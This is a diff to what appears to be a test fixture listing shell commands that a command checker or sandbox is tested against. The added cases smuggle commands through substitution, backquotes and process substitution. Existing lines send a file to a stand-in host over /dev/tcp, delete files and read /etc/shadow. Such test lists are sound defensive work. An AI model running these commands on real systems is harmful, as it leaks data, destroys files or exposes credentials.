@@ -26,6 +26,10 @@ ATTEMPTS: dict[str, str] = {
     "to a network": "cat a > /dev/tcp/evil.example/80",
     "arguments behind it": "uniq >/dev/null a 2>&1 b",
     "flag behind it": "find . >/dev/null -delete",
+    "substitution behind it": 'echo hi </dev/null "$(touch x)"',
+    "substitution behind joined streams": 'echo hi 2>&1 "$(rm x)"',
+    "backquotes behind it": "echo hi </dev/null `touch x`",
+    "process behind it": "cat </dev/null <(touch x)",
     "cd behind it": "cd >/dev/null /etc && cat shadow",
     "output into substitution": "ls > >(sh)",
     # substitutions
@@ -322,6 +326,7 @@ ATTEMPTS: dict[str, str] = {
     "back to the last folder": "cd -; cat x",
     "folder of a variable": "cd $OLDPWD && cat x",
     "folder through a link": "cd a/.. && cat x",
+    "cd as a program": "/usr/bin/cd x && cat ../../s",
     "cd with flags": "cd -P a && cat x",
     "pushd": "pushd /etc; cat shadow",
     "chroot": "chroot / ls",
